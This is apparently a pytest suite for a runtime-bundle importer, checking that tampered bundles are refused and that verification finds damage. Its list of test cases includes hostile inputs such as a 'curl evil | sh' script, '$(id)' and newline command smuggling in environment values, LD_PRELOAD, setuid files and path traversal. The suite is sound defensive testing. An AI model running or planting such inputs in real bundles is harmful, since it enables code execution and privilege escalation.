"""Runtimes of strangers: a bundle that lies about anything is refused, and the shelf stays as it was."""

import os
import shutil
import stat
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest

from gpuaas.kit.errors import Problem
from gpuaas.runtimes import activate, bundlefile, tools, tree, verify
from gpuaas.runtimes.manifest import Layer
from gpuaas.runtimes.recipe import Mount, Recipe
from gpuaas.runtimes.shelf import Shelf
from gpuaas.runtimes.tree import Entry, Limits
from runtimes.bundle import Bundle, for_arm64

pytestmark = pytest.mark.skipif(shutil.which("mkfs.erofs") is None, reason="not installed: erofs-utils")


@pytest.fixture
def bundle(tmp_path: Path) -> Bundle:
    return Bundle(tmp_path / "work")


@pytest.fixture
def shelf(tmp_path: Path) -> Shelf:
    made = Shelf(tmp_path / "shelf")
    made.make()
    return made


def content(shelf: Shelf) -> set[str]:
    return {str(path.relative_to(shelf.path)) for path in shelf.path.rglob("*")}


def test_an_honest_one_is_taken_in_and_goes_out_again(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
    file = bundle.write(tmp_path / "b.tar")
    manifest = bundlefile.take_in(file, shelf)
    assert manifest.id == "tool:1.0"
    assert verify.verify("tool", "1.0", shelf).intact
    assert bundlefile.take_in(file, shelf) == manifest, "twice is once"
    again = tmp_path / "again.tar"
    bundlefile.export("tool", "1.0", shelf, again)
    other = Shelf(tmp_path / "other")
    assert bundlefile.take_in(again, other) == manifest
    assert other.all_built() == shelf.all_built()


def replaced(recipe: Recipe, **values: Any) -> Recipe:
    return msgspec.structs.replace(recipe, **values)


def _setuid(bundle: Bundle) -> None:
    (bundle.tree / "bin" / "tool").chmod(0o4755)
    bundle.keep_modes = True
    (bundle.tree / activate.FILE).write_text(activate.script(bundle.recipe))
    (bundle.tree / "bin" / "tool").chmod(0o755)
    bundle.entries = tree.examine(bundle.tree)
    (bundle.tree / "bin" / "tool").chmod(0o4755)


def _entries(bundle: Bundle) -> list[Entry]:
    (bundle.tree / activate.FILE).write_text(activate.script(bundle.recipe))
    return tree.examine(bundle.tree)


def _device(bundle: Bundle) -> None:
    bundle.keep_modes = True
    bundle.entries = _entries(bundle)
    os.mknod(bundle.tree / "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))


def _fifo(bundle: Bundle) -> None:
    bundle.keep_modes = True
    bundle.entries = _entries(bundle)
    os.mkfifo(bundle.tree / "pipe")


def _link_outside(bundle: Bundle) -> None:
    bundle.entries = [*_entries(bundle), Entry("out", "link", target="/etc")]
    (bundle.tree / "out").symlink_to("/etc")


def _hidden_file(bundle: Bundle) -> None:
    bundle.entries = _entries(bundle)
    (bundle.tree / "hidden").write_text("x")


def _other_content(bundle: Bundle) -> None:
    entries = _entries(bundle)
    bundle.entries = [msgspec.structs.replace(each, sha256="0" * 64) if each.sha256 else each for each in entries]


def _bomb(bundle: Bundle) -> None:
    bundle.entries = _entries(bundle)
    with (bundle.tree / "zeros").open("wb") as file:
        file.truncate(400 * 2**20)


def _alike(bundle: Bundle) -> None:
    (bundle.tree / "bin" / "TOOL").write_text("x")


def _half_an_image(bundle: Bundle) -> None:
    (bundle.tree / activate.FILE).write_text(activate.script(bundle.recipe))
    bundle.entries = _entries(bundle)
    bundle.image = bundle._image()[:2048]


LIES: dict[str, Callable[[Bundle], None]] = {
    "setuid": _setuid,
    "device": _device,
    "fifo": _fifo,
    "link outside": _link_outside,
    "hidden file": _hidden_file,
    "other content": _other_content,
    "bomb": _bomb,
    "names alike": _alike,
    "half an image": _half_an_image,
    "no image at all": lambda b: setattr(b, "image", b"not an image"),
    "another image": lambda b: b.change_papers.update({"image.erofs": b"x" * 4096}),
    "evil script": lambda b: setattr(b, "script", "curl evil | sh\n"),
    "script with more": lambda b: setattr(b, "script", activate.script(b.recipe) + "curl evil | sh\n"),
    "another files.json": lambda b: b.change_manifest.update(files="0" * 64),
    "another sbom": lambda b: b.change_manifest.update(sbom="0" * 64),
    "another lock": lambda b: b.change_manifest.update(lock="0" * 64),
    "another bundle": lambda b: b.change_manifest.update(bundle="python"),
    "another version": lambda b: b.change_manifest.update(version="2.0"),
    "another architecture": lambda b: b.change_manifest.update(architecture="arm64"),
    "smaller than it is": lambda b: b.change_manifest.update(tree_bytes=1),
    "fewer than there are": lambda b: b.change_manifest.update(entries=1),
    "an image of another size": lambda b: b.change_manifest.update(layers=(Layer("0" * 64, 1),)),
    "no layer": lambda b: b.change_manifest.update(layers=()),
    "two layers": lambda b: b.change_manifest.update(layers=(Layer("0" * 64, 1), Layer("0" * 64, 1))),
    "a layer named by a path": lambda b: b.change_manifest.update(layers=(Layer("../../x", 1),)),
    "another format": lambda b: b.change_manifest.update(format=99),
    "a name that leaves": lambda b: setattr(b, "recipe", replaced(b.recipe, name="../../etc")),
    "a version that leaves": lambda b: setattr(b, "recipe", replaced(b.recipe, version="../../../x")),
    "a version with a slash": lambda b: setattr(b, "recipe", replaced(b.recipe, version="1/2")),
    "a mount over etc": lambda b: setattr(b, "recipe", replaced(b.recipe, mounts=(Mount("bin", "/etc"),))),
    "a mount that leaves": lambda b: setattr(b, "recipe", replaced(b.recipe, mounts=(Mount("../..", "/usr/local/x"),))),
    "a writable mount": lambda b: setattr(b, "recipe", replaced(b.recipe, mounts=(Mount("bin", "/opt/x", False),))),
    "a command as a variable": lambda b: setattr(b, "recipe", replaced(b.recipe, environment=(("A", "$(id)"),))),
    "a variable of the loader": lambda b: setattr(b, "recipe", replaced(b.recipe, environment=(("LD_PRELOAD", "/x"),))),
    "a variable with a line": lambda b: setattr(b, "recipe", replaced(b.recipe, environment=(("A", "x\nid"),))),
    "parents": lambda b: setattr(b, "recipe", replaced(b.recipe, parents=("python",))),
    "no manifest": lambda b: b.change_papers.update({"manifest.json": b"{}"}),
    "a manifest of nonsense": lambda b: b.change_papers.update({"manifest.json": b"[" * 100_000}),
    "a lock that is no text": lambda b: b.change_papers.update({"lock.json": b'{"\xff": 1}'}),
    "a manifest that is no text": lambda b: b.change_papers.update({"manifest.json": b'{"\xff": 1}'}),
    "a files.json that is no text": lambda b: b.change_papers.update({"files.json": b'[{"\xff": 1}]'}),
    "a lock of nonsense": lambda b: b.change_papers.update({"lock.json": b"[]"}),
    "a files.json of nonsense": lambda b: b.change_papers.update({"files.json": b"{}"}),
    "a member too many": lambda b: b.members.append("more"),
    "a member missing": lambda b: b.members.remove("sbom.json"),
    "a member twice": lambda b: b.members.insert(0, "manifest.json"),
    "another order": lambda b: b.members.reverse(),
    "a member that leaves": lambda b: b.members.__setitem__(4, "../image.erofs"),
}  # fmt: skip


@pytest.mark.parametrize("lie", LIES)
def test_a_lie_is_refused_and_leaves_nothing(bundle: Bundle, shelf: Shelf, tmp_path: Path, lie: str) -> None:
    if lie == "device" and os.geteuid() != 0:
        pytest.skip("needs root")
    LIES[lie](bundle)
    file = bundle.write(tmp_path / "b.tar")
    before = content(shelf)
    with pytest.raises(Problem) as refused:
        bundlefile.take_in(file, shelf)
    assert refused.value.code == "refused_content"
    assert content(shelf) == before


@pytest.mark.parametrize("data", [b"", b"hello", b"\x1f\x8b" + b"x" * 100, b"\0" * 10240])
def test_what_is_no_bundle(shelf: Shelf, tmp_path: Path, data: bytes) -> None:
    (tmp_path / "b.tar").write_bytes(data)
    with pytest.raises(Problem):
        bundlefile.take_in(tmp_path / "b.tar", shelf)


def test_a_truncated_one(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
    data = bundle.write(tmp_path / "b.tar").read_bytes()
    with tarfile.open(tmp_path / "b.tar") as archive:
        last = archive.getmembers()[-1]
        end = last.offset_data + last.size  # only padding follows
    before = content(shelf)
    for length in [*range(0, end, max(1, end // 12)), end - 1]:
        (tmp_path / "half.tar").write_bytes(data[:length])
        with pytest.raises(Problem):
            bundlefile.take_in(tmp_path / "half.tar", shelf)
    assert content(shelf) == before


def test_limits(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
    file = bundle.write(tmp_path / "b.tar")
    for limits in (Limits(entries=2), Limits(total_bytes=10), Limits(file_bytes=100)):
        with pytest.raises(Problem):
            bundlefile.take_in(file, shelf, limits)


def test_a_version_has_one_content(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
    bundlefile.take_in(bundle.write(tmp_path / "b.tar"), shelf)
    (bundle.tree / "bin" / "tool").write_text("#!/bin/sh\necho other\n")
    with pytest.raises(Problem, match="Another build of tool"):
        bundlefile.take_in(bundle.write(tmp_path / "c.tar"), shelf)


def test_a_flipped_byte_is_found_and_named(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
    (bundle.tree / "data").write_bytes(os.urandom(100_000))
    manifest = bundlefile.take_in(bundle.write(tmp_path / "b.tar"), shelf)
    image = shelf.image(manifest.layers[0].sha256)
    data = bytearray(image.read_bytes())
    data[-30_000] ^= 1
    image.write_bytes(data)
    verdict = verify.verify("tool", "1.0", shelf)
    assert not verdict.intact
    assert "the image was changed" in verdict.findings
    assert "data differs" in verdict.findings
    with pytest.raises(Problem, match="is damaged"):
        bundlefile.export("tool", "1.0", shelf, tmp_path / "x.tar")
    image.unlink()
    assert verify.verify("tool", "1.0", shelf).findings == ("the image is missing",)


def _longer(data: bytes) -> bytes:
    return data + b" "


def _half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def _another(data: bytes) -> bytes:
    """Still a sound document of its kind, with one letter changed in what it says."""
    said = data.replace(b"registry/tool", b"registry/fool").replace(b'"entries":', b'"entries":1')
    return said.replace(b'"CycloneDX"', b'"CycloneDY"').replace(b'"bin/tool"', b'"bin/fool"')


@pytest.mark.parametrize("change", [_longer, _half, _another, None])
@pytest.mark.parametrize("name", ["manifest.json", "lock.json", "files.json", "sbom.json"])
def test_changed_papers_are_found(
    bundle: Bundle, shelf: Shelf, tmp_path: Path, name: str, change: Callable[[bytes], bytes] | None
) -> None:
    file = bundle.write(tmp_path / "b.tar")
    manifest = bundlefile.take_in(file, shelf)
    paper = shelf.bundle("tool", "1.0") / manifest.layers[0].sha256 / name
    if change is None:
        paper.unlink()
    else:
        data = paper.read_bytes()
        assert change(data) != data
        paper.write_bytes(change(data))
    found = verify.verify("tool", "1.0", shelf)
    assert (found.runtime, found.sha256, found.intact) == ("tool:1.0", manifest.layers[0].sha256, False)
    assert len(found.findings) == 1
    assert found.findings[0].startswith(name)
    with pytest.raises(Problem) as refused:
        bundlefile.export("tool", "1.0", shelf, tmp_path / "x.tar")
    assert (refused.value.code, refused.value.hint) == ("damaged_image", "Run `gpuaas runtime build tool:1.0`.")
    bundlefile.take_in(file, shelf)
    assert verify.verify("tool", "1.0", shelf).intact, "taken in again, it is whole again"


@pytest.mark.parametrize("name", ["manifest.json", "lock.json", "files.json", "sbom.json"])
def test_what_an_earlier_version_kept_is_compared_with_its_manifest(
    bundle: Bundle, shelf: Shelf, tmp_path: Path, name: str
) -> None:
    """It noted no digests beside the papers."""
    manifest = bundlefile.take_in(bundle.write(tmp_path / "b.tar"), shelf)
    place = shelf.bundle("tool", "1.0") / manifest.layers[0].sha256
    (place / "SHA256SUMS").unlink()
    assert verify.verify("tool", "1.0", shelf).intact
    (place / name).write_bytes((place / name).read_bytes()[:-10])
    assert [each.split()[0] for each in verify.verify("tool", "1.0", shelf).findings] == [name]


def test_a_manifest_of_another_runtime_is_found(shelf: Shelf, tmp_path: Path) -> None:
    one = bundlefile.take_in(Bundle(tmp_path / "one").write(tmp_path / "1.tar"), shelf)
    other = bundlefile.take_in(Bundle(tmp_path / "two", "other").write(tmp_path / "2.tar"), shelf)
    mine, its = (shelf.bundle(each.bundle, "1.0") / each.layers[0].sha256 for each in (one, other))
    (mine / "SHA256SUMS").unlink()
    (mine / "manifest.json").write_bytes((its / "manifest.json").read_bytes())
    assert "manifest.json describes other:1.0" in verify.verify("tool", "1.0", shelf).findings


@pytest.mark.parametrize("note", [b"", b"\0" * 65, b"\xff" * 64, b"../../../images"])
def test_a_note_that_names_no_image(bundle: Bundle, shelf: Shelf, tmp_path: Path, note: bytes) -> None:
    file = bundle.write(tmp_path / "b.tar")
    bundlefile.take_in(file, shelf)
    (shelf.bundle("tool", "1.0") / f"built-{tools.architecture()}").write_bytes(note)
    assert verify.verify("tool", "1.0", shelf).findings == ("the note `built` names no image",)
    bundlefile.take_in(file, shelf)
    assert verify.verify("tool", "1.0", shelf).intact


def test_a_changed_image_without_a_list_of_its_files(bundle: Bundle, shelf: Shelf, tmp_path: Path) -> None:
    manifest = bundlefile.take_in(bundle.write(tmp_path / "b.tar"), shelf)
    shelf.image(manifest.layers[0].sha256).write_bytes(b"?")
    (shelf.bundle("tool", "1.0") / manifest.layers[0].sha256 / "files.json").write_bytes(b"[{")
    assert set(verify.verify("tool", "1.0", shelf).findings) == {
        "files.json was changed",
        "the image was changed",
    }


@pytest.mark.parametrize("name", ["manifest.json", "lock.json"])
def test_a_test_of_what_is_damaged_says_so(bundle: Bundle, shelf: Shelf, tmp_path: Path, name: str) -> None:
    manifest = bundlefile.take_in(bundle.write(tmp_path / "b.tar"), shelf)
    paper = shelf.bundle("tool", "1.0") / manifest.layers[0].sha256 / name
    for data in (paper.read_bytes()[:-10], None):
        paper.unlink() if data is None else paper.write_bytes(data)
        with pytest.raises(Problem) as refused:
            verify.test("tool", "1.0", shelf, lambda message, percent: None)
        assert (refused.value.code, refused.value.hint) == ("damaged_image", "Run `gpuaas runtime build tool:1.0`.")
        assert name in refused.value.message


def test_what_was_killed_leaves_nothing(shelf: Shelf) -> None:
    (shelf.path / "work" / "left" / "deep").mkdir(parents=True)
    with shelf.workspace() as mine:
        assert os.listdir(shelf.path / "work") == [mine.name]
        with shelf.workspace() as other:
            assert {mine.name, other.name} == set(os.listdir(shelf.path / "work")), "a build that runs is left alone"
    assert os.listdir(shelf.path / "work") == []


def test_one_shelf_holds_a_version_for_both_architectures(tmp_path: Path, shelf: Shelf) -> None:
    ours = bundlefile.take_in(Bundle(tmp_path / "amd64").write(tmp_path / "amd64.tar"), shelf)
    theirs = bundlefile.take_in(for_arm64(tmp_path / "arm64").write(tmp_path / "arm64.tar"), shelf)
    digests = {"amd64": ours.layers[0].sha256, "arm64": theirs.layers[0].sha256}
    assert len(set(digests.values())) == 2
    assert shelf.builds("tool", "1.0") == digests
    assert [(each.architecture, each.sha256) for each in shelf.all_built()] == sorted(digests.items())
    for architecture, sha256 in digests.items():
        verdict = verify.verify("tool", "1.0", shelf, architecture)
        assert (verdict.architecture, verdict.sha256, verdict.intact) == (architecture, sha256, True)
        bundlefile.export("tool", "1.0", shelf, tmp_path / "again.tar", architecture)
        assert (tmp_path / "again.tar").stat().st_size > 0
        assert bundlefile.take_in(tmp_path / "again.tar", Shelf(tmp_path / architecture / "other")).architecture == (
            architecture
        )


def test_another_content_is_refused_for_each_architecture_by_itself(tmp_path: Path, shelf: Shelf) -> None:
    bundlefile.take_in(for_arm64(tmp_path / "one").write(tmp_path / "one.tar"), shelf)
    other = for_arm64(tmp_path / "two")
    (other.tree / "bin" / "more").touch()
    with pytest.raises(Problem, match="is here for arm64"):
        bundlefile.take_in(other.write(tmp_path / "two.tar"), shelf)
    same = for_arm64(tmp_path / "three")
    same.lock = msgspec.structs.replace(same.lock, architecture="amd64")
    same.change_manifest = {"architecture": "amd64"}
    same.image = shelf.image(shelf.builds("tool", "1.0")["arm64"]).read_bytes()
    with pytest.raises(Problem, match="is here for arm64"):  # its papers would take the place of the others
        bundlefile.take_in(same.write(tmp_path / "three.tar"), shelf)
    assert list(shelf.builds("tool", "1.0")) == ["arm64"]


def test_a_shelf_of_before_is_read_and_takes_the_other_architecture_beside(tmp_path: Path, shelf: Shelf) -> None:
    theirs = bundlefile.take_in(for_arm64(tmp_path / "arm64").write(tmp_path / "arm64.tar"), shelf).layers[0].sha256
    place = shelf.bundle("tool", "1.0")
    (place / "built-arm64").rename(place / "built")
    assert shelf.builds("tool", "1.0") == {"arm64": theirs}
    assert shelf.built("tool", "1.0") == theirs  # the only one
    assert shelf.built("tool", "1.0", "amd64") is None
    with pytest.raises(Problem, match="not built on this machine for amd64"):
        verify.manifest_of("tool", "1.0", shelf, "amd64")
    ours = bundlefile.take_in(Bundle(tmp_path / "amd64").write(tmp_path / "amd64.tar"), shelf).layers[0].sha256
    assert shelf.builds("tool", "1.0") == {"amd64": ours, "arm64": theirs}
    bundlefile.take_in(tmp_path / "arm64.tar", shelf)
    assert sorted(each.name for each in place.glob("built*")) == ["built-amd64", "built-arm64"]
    assert shelf.built("tool", "1.0", "arm64") == theirs
